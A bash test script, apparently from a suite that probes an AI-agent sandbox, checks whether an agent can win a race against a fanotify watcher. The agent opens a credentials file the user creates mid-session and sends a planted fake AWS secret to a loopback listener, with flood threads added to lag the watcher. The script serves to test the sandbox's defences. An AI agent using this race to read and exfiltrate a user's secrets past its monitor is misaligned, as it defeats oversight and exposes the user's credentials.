#!/bin/bash
# Kernel-decided opens: a secret the user creates during the session (~/.aws/credentials,
# `aws configure`) is marked by the watcher only when it has read and resolved the
# FAN_CREATE; an agent spinning on open() of the name opens it first, waits for the
# user's bytes, and sends them before the late mark finds it holding the file.
# With FLOOD>0 creator threads the watcher's queue (unlimited, one thread, every event
# resolved under "~/.aws/**") lags by seconds.
set -u; . "$(dirname "$0")/../common.sh"
IP=127.79.10.2
D=$R9B/late-mark-outrun; W=$D/ws H=$D/home
outside() { # the user's tool writes the credentials file (created now)
  for i in $(seq 600); do [ -e $W/ready ] && break; sleep 0.05; done; sleep ${DELAY:-1}
  printf "AKIA-USER-SECRET-$1\n" > $W/.env && echo "user wrote ws/.env"; }
try() { # try NAME FLOOD CFG
  rm -rf $W $H; mkdir -p $W $H/.aws; gcc -O1 -pthread -o $W/beat $D/beat.c
  listen $IP $D/out-$1.txt; outside $1 & CPID=$!
  local env="" mode=isolated; case $3 in kopens) env=CLAWLESS_KERNEL_OPENS=1;; mediated) mode=mediated;; esac
  (cd $W && env -u XDG_CACHE_HOME HOME=$H PATH=/usr/bin:/bin $env timeout 120 $CLAW exec --mode $mode --workspace $W -- ./beat $IP $W/.env $2 2) 2>&1 | grep -v "watcher armed"
  wait $CPID; verdict $D/out-$1.txt AKIA-USER; }
for cfg in ${CFGS:-kopens}; do
  for f in ${FLOODS:-0 2}; do echo "==== $cfg: flood threads $f"; try f$f-$cfg $f $cfg; done
done
